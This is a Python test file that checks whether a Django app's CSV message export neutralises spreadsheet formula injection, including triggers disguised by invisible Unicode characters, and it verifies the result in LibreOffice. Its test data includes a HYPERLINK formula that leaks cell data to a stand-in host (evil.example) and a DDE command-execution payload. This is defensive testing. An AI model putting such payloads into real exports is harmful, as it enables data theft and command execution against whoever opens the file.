"""CSV formula neutralisation (docs/API.md): every cell a spreadsheet could evaluate gets a
leading ', whatever hides or disguises its = + - @ (white space, invisible characters,
full-width and other compatibility forms, the minus sign); other values are left as they are.
Checked cell by cell, as a property over any text, through the real export, and by opening the
export in LibreOffice Calc with formulas evaluated."""

import csv
import io
import os
import shutil
import subprocess
import unicodedata
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from django.core.management import call_command
from hypothesis import given, settings
from hypothesis import strategies as st

from clientdesk.messaging.export import _csv_cell
from tests.sending import write_texts

TRIGGERS = "=+-@＝＋－＠﹦﹢﹣﹫−⁼₌⁺₊⁻₋"
# What may stand before a trigger unseen, or be trimmed by a spreadsheet: spaces (NBSP,
# ideographic, em), zero-width characters, word joiner, BOM, bidi marks and isolates, soft
# hyphen, Mongolian vowel separator, Hangul fillers, variation selector, combining mark, and
# the control characters TAB, CR, LF, VT, FF, FS, NEL, line and paragraph separators.
HIDERS = [
    " ", "\u00a0", "\u3000", "\u2003", "\u202f", "\u200b", "\u200c", "\u200d", "\u2060",
    "\ufeff", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066", "\u2069", "\u00ad", "\u180e",
    "\u3164", "\u115f", "\uffa0", "\ufe0f", "\u034f", "\u0301", "\t", "\r", "\n", "\x0b",
    "\x0c", "\x1c", "\x85", "\u2028", "\u2029",
]  # fmt: skip
TAILS = ["1+1", 'HYPERLINK("http://evil.example/?leak="&A1,"Open")', "cmd|' /C calc'!A0"]
PAYLOADS = [
    prefix + trigger + tail
    for prefix in ["", *HIDERS, " \u200b\u00a0", "\ufeff\u202e\t"]
    for trigger in TRIGGERS
    for tail in TAILS[:1]
] + [hider + "=" + tail for hider in ["", " ", "\u00a0", "\u3000"] for tail in TAILS[1:]]
LEGITIMATE = [
    "Hello",
    "a=b",
    "1+1",
    "'quoted already",
    "",
    "Zoë Müller",
    "(555) 123-4567",
    "50% off",
    "|pipe",
    "x@example.com",
    "€5",
    "«=»",
    "Ⅻ",
    "\u3042=",
]
# The oracle: what a spreadsheet may skip before the first character it reads.
_UNSEEN_CATEGORIES = {"Cc", "Cf", "Zs", "Zl", "Zp", "Mn", "Me"}


def _unseen(char: str) -> bool:
    return (
        char.isspace()
        or unicodedata.category(char) in _UNSEEN_CATEGORIES
        or char in "\u115f\u1160\u3164\uffa0"
    )


def _read_as_formula(cell: str) -> bool:
    """Whether a spreadsheet could take `cell` for a formula: TAB/CR/LF first, or the first
    character past what it may skip is a trigger once folded (NFKC)."""
    if cell[:1] in ("\t", "\r", "\n"):
        return True
    seen = cell.lstrip("".join({c for c in cell if _unseen(c)}))
    return unicodedata.normalize("NFKC", seen[:1])[:1] in "=+-@\u2212" and seen != ""


def _csv_round_trip(value: str) -> str:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerow([_csv_cell(value), "next"])
    (row,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[1] == "next"
    return row[0]


def test_every_disguised_formula_gets_the_quote():
    assert all(_read_as_formula(p) for p in PAYLOADS)
    missed = [p for p in PAYLOADS if _csv_round_trip(p) != "'" + p]
    assert missed == [], [ascii(p) for p in missed]


@pytest.mark.parametrize("value", LEGITIMATE, ids=ascii)
def test_values_that_are_no_formula_are_left_as_they_are(value):
    assert _csv_round_trip(value) == value


def test_the_contract_cases():
    """docs/API.md: a cell that starts with = + - @ TAB or CR gets a leading '; so does LF."""
    for first in "=+-@\t\r\n":
        assert _csv_cell(first + "x") == "'" + first + "x"
    assert _csv_cell({"webhook": "=delivered"}) == "webhook:=delivered"
    assert _csv_cell({"=webhook": "delivered"}) == "'=webhook:delivered"
    assert _csv_cell(-5) == "'-5" and _csv_cell(5) == "5" and _csv_cell(None) == ""


@settings(max_examples=500, deadline=None)
@given(st.text())
def test_any_text_is_kept_and_never_read_as_a_formula(text):
    cell = _csv_round_trip(text)
    assert cell in (text, "'" + text)
    assert cell.startswith("'") or not _read_as_formula(cell)


@settings(max_examples=500, deadline=None)
@given(
    st.text(alphabet=st.sampled_from(HIDERS), max_size=6),
    st.sampled_from(TRIGGERS),
    st.text(max_size=20),
)
def test_anything_unseen_before_a_trigger_is_quoted(hidden, trigger, rest):
    assert _csv_round_trip(hidden + trigger + rest) == "'" + hidden + trigger + rest


_ODF = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _calc_cells(csv_file: Path, tmp: Path, *, trim_spaces: bool) -> list[list[tuple]]:
    """The CSV as LibreOffice Calc opens it, formulas evaluated: per row, per cell, (formula
    or None, value type, text shown)."""
    # Separator, quote, UTF-8, from line 1, standard columns, language, quoted field as text
    # (no), detect special numbers (yes), -, -, trim spaces, -, evaluate formulas (yes).
    options = f"44,34,76,1,,0,false,true,false,false,{str(trim_spaces).lower()},-1,true"
    out = tmp / f"calc-{trim_spaces}"
    subprocess.run(
        [
            shutil.which("soffice") or "soffice",
            f"-env:UserInstallation=file://{tmp / 'lo-profile'}",
            "--headless",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "fods",
            "--outdir",
            str(out),
            str(csv_file),
        ],
        check=True,
        capture_output=True,
        timeout=300,
        env={**os.environ, "HOME": str(tmp)},
    )
    # LibreOffice's own output of a file this test wrote: no untrusted XML.
    root = ET.parse(out / f"{csv_file.stem}.fods").getroot()  # noqa: S314
    rows = []
    for row in root.iter(f"{{{_ODF['table']}}}table-row"):
        cells = []
        for cell in row.findall("table:table-cell", _ODF):
            shown = "\n".join("".join(p.itertext()) for p in cell.findall("text:p", _ODF))
            cells.append(
                (
                    cell.get(f"{{{_ODF['table']}}}formula"),
                    cell.get(f"{{{_ODF['office']}}}value-type"),
                    shown,
                )
            )
        rows.append(cells)
    return rows


@pytest.mark.django_db
def test_libreoffice_evaluates_no_cell_of_the_export(make_client, agent, tmp_path):
    if shutil.which("soffice") is None:
        message = (
            "LibreOffice is not installed: the export was NOT opened in a spreadsheet "
            "(apt-get install libreoffice-calc-nogui; .ci/run installs it)"
        )
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    client = make_client(external_id="=1+1", first_name="\u00a0=1+1", last_name="")
    for payload in PAYLOADS:  # one write each: the export keeps their order
        write_texts(agent, client, [payload])
    exported = tmp_path / "export.csv"
    call_command("export_messages", "--format", "csv", "-o", str(exported))
    # The control: this LibreOffice does evaluate what the export would have held unquoted.
    raw = tmp_path / "raw.csv"
    with open(raw, "w", newline="", encoding="utf-8") as f:
        csv.writer(f, lineterminator="\r\n").writerows([["body"], ["=1+1"], [" =1+1"]])
    control = _calc_cells(raw, tmp_path, trim_spaces=True)
    assert control[1][0][0] == "of:=1+1" and control[2][0][0] == "of:=1+1", control
    with open(exported, newline="", encoding="utf-8") as f:
        written = list(csv.reader(f))
    body = written[0].index("body")
    assert [row[body] for row in written[1:]] == ["'" + p for p in PAYLOADS]
    for trim in (False, True):
        opened = _calc_cells(exported, tmp_path, trim_spaces=trim)
        assert len(opened) == len(written)
        formulas = [cell for row in opened for cell in row if cell[0] is not None]
        assert formulas == [], formulas
        for row in opened[1:]:
            # The body is text that starts with the quote, as written: nothing was evaluated.
            assert row[body][1] == "string" and row[body][2].lstrip().startswith("'"), row[body]
